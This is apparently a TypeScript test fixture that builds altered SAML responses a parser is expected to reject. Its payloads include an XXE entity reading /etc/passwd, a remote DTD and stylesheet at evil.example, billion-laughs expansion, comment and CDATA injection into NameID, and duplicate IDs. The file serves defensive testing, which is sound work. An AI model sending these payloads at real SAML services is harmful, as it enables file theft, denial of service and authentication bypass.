/** Documents that parsers disagree about, that reach elsewhere, or that cost more than they should. */
import type { Attack, Attacks } from './saml-idp-attacks.ts'
import { writeResponse } from './saml-idp-messages.ts'
import { signElement } from './saml-idp-signature.ts'

const OUTSIDE = 'markup or a character outside the profile'

/** Before or in a good response. */
const before = (text: string): Attack => [OUTSIDE, ({ write }) => text + write().response]
/** Around the name, in the response that was signed. Canonicalisation drops or resolves what is written here. */
const inName = (reason: string, write: (name: string) => string): Attack => [
  reason,
  (forge) => {
    const { subject } = forge.login
    return forge.write().response.replace(`<saml:NameID>${subject}`, `<saml:NameID>${write(subject)}`)
  },
]
const instead = (reason: string, bytes: string | Uint8Array): Attack => [reason, () => bytes]
const entities = (declarations: string) => `<!DOCTYPE samlp:Response [${declarations}]>`
const laughs = Array.from({ length: 30 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')

export const ALTERED_DOCUMENTS: Attacks = {
  'with a DOCTYPE': before('<!DOCTYPE samlp:Response>'),
  'with an internal entity': before(entities('<!ENTITY who "mallory">')),
  'with an external entity': before(entities('<!ENTITY file SYSTEM "file:///etc/passwd">')),
  'with a parameter entity': before(entities('<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;')),
  'with a billion laughs': before(entities(`<!ENTITY l0 "lol">${laughs}`)),
  'with attributes declared': before(entities('<!ATTLIST saml:NameID x CDATA "y">')),
  'with an unknown entity in the name': inName('an unknown reference', (name) => `&who;${name}`),
  'with a comment in the name': inName(OUTSIDE, (name) => `${name.slice(0, 3)}<!-- -->${name.slice(3)}`),
  'with a comment behind the name': inName(OUTSIDE, (name) => `${name}<!---->.evil.example`),
  'with a processing instruction in the name': inName(OUTSIDE, (name) => `${name.slice(0, 3)}<?x ?>${name.slice(3)}`),
  'with the name in CDATA': inName(OUTSIDE, (name) => `<![CDATA[${name}]]>`),
  'with a part of the name in CDATA': inName(OUTSIDE, (name) => `${name.slice(0, 3)}<![CDATA[]]>${name.slice(3)}`),
  'with a comment outside of the assertion': [
    OUTSIDE,
    ({ write }) => write().response.replace('</saml:Issuer>', '$&<!-- -->'),
  ],
  'with a stylesheet': before('<?xml-stylesheet href="https://evil.example/x.xsl"?>'),
  'with NUL': inName(OUTSIDE, (name) => `${name}\0`),
  'with a NUL by reference': inName('an unknown reference', (name) => `${name}&#0;`),
  'with half a character by reference': inName('an unknown reference', (name) => `${name}&#xD800;`),
  'with a prefix that stands for nothing': inName('a prefix stands for nothing', (name) => `${name}<evil:x></evil:x>`),
  'with an attribute twice': [
    'an attribute is there twice',
    ({ write }) => write().response.replace('Version=', 'Version="2.0" $&'),
  ],
  'with tags that do not match': [
    'tags do not match',
    ({ write }) => write().response.replace('</saml:Subject>', '</saml:Sub>'),
  ],
  'with an ID twice': [
    'an ID is there twice',
    (forge) => {
      const { facts, response } = forge.write()
      return response.replace('<samlp:Status>', `<samlp:Status id="${facts.assertionId}">`)
    },
  ],
  'in another encoding by its own word': before('<?xml version="1.0" encoding="UTF-16"?>'),
  'in UTF-16': ['not UTF-8', ({ write }) => Buffer.from(`\ufeff${write().response}`, 'utf16le')],
  'in bytes that are not UTF-8': instead('not UTF-8', Buffer.from([0x3c, 0x61, 0xff, 0x3e])),
  'followed by another': ['something follows the root', ({ write }) => write().response + write().response],
  'that is empty': instead('an element was expected', ''),
  'that is not XML': instead('an element was expected', 'NameID=mallory'),
  'that is not a response': instead('not a response', '<a></a>'),
  'that is a request to log out': [
    'not a response',
    ({ write, idp }) => {
      const { facts } = write()
      const request = writeResponse(facts, '').replaceAll('samlp:Response', 'samlp:LogoutRequest')
      return signElement(request, facts.responseId, idp)
    },
  ],
  'that is larger than 256 KiB': [
    'larger than 256 KiB',
    ({ write }) => write().response.replace('</samlp:Status>', `${' '.repeat(256 * 1024)}$&`),
  ],
}
